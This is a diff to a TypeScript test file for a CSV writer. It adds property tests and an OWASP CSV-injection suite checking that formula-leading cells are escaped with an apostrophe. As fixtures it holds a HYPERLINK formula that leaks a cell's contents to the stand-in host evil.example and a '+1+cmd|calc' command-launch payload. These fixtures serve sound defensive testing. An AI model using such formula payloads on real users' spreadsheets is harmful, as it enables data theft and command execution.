@@ -56,13 +56,35 @@ describe('CSV quoting', () => {
     );
   });
 
-  it('reads back as written for any text (property)', () => {
-    const cell = fc.oneof(fc.string(), fc.constantFrom('"', ',', '\r\n', '\n', ' ', '""', 'a"b,c\nd'));
+  it('reads back as written for any text, formulas read back as text (property)', () => {
+    const cell = fc.oneof(fc.string(), fc.constantFrom('"', ',', '\r\n', '\n', ' ', '""', 'a"b,c\nd', '=1+1', '+1', '-x', '@SUM(A1)', '\tx', '\rx'));
+    const asText = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
     fc.assert(
       fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 5 }), (rows) => {
-        expect(parseCsv(rows.map((r) => csvRow(r)).join(''))).toEqual(rows);
+        expect(parseCsv(rows.map((r) => csvRow(r)).join(''))).toEqual(rows.map((r) => r.map(asText)));
       }),
       { numRuns: 500 },
     );
+  });
+});
+
+describe('CSV injection (OWASP)', () => {
+  it('turns every cell that a spreadsheet would evaluate into text with a leading apostrophe', () => {
+    const link = '=HYPERLINK("http://evil.example/?leak="&A1, "click me")';
+    expect(csvField(link)).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1, ""click me"")"`);
+    expect(parseCsv(csvRow([link]))).toEqual([[`'${link}`]]);
+    expect(csvField('+1+cmd|calc')).toBe("'+1+cmd|calc");
+    expect(csvField('-2+3')).toBe("'-2+3");
+    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
+    expect(csvField('\t=1')).toBe("'\t=1");
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+  });
+
+  it('leaves numbers and harmless text alone', () => {
+    expect(csvField(-0.5)).toBe('-0.5');
+    expect(csvField(12)).toBe('12');
+    expect(csvField('per:title')).toBe('per:title');
+    expect(csvField('a=b')).toBe('a=b');
+    expect(csvField("it's")).toBe("it's");
   });
 });
